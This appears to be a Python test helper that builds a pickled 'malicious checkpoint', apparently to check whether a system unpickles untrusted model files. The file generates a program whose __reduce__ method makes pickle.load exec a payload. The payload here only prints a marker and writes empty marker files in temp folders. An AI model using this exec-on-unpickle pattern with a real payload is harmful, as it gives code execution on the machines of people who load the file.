"""A malicious checkpoint: when it is unpickled, it creates marker files and prints to stderr."""

MARKER = "unpickled"
_FOLDERS = ("/run/sd", "/tmp", "/dev/shm", "/var/tmp")


def replace_program(path: str) -> str:
    """Return a Python program that replaces the file at `path` by a malicious checkpoint."""
    return f"""
import pickle
class MaliciousCheckpoint:
    def __reduce__(self):
        return exec, ({_payload()!r},)
with open({path!r}, "wb") as file:
    pickle.dump(MaliciousCheckpoint(), file)
"""


def unpickle_program(path: str) -> str:
    """Return a Python program that unpickles the file, and prints True if its code has run."""
    return f"""
import pickle, pathlib
pickle.load(open({path!r}, "rb"))
print(any(pathlib.Path(folder, {MARKER!r}).exists() for folder in {_FOLDERS!r}))
"""


def _payload() -> str:
    return f"""
import pathlib, sys
print({MARKER!r}, file=sys.stderr, flush=True)
for folder in {_FOLDERS!r}:
    try:
        pathlib.Path(folder, {MARKER!r}).write_text("")
    except OSError:
        pass
"""
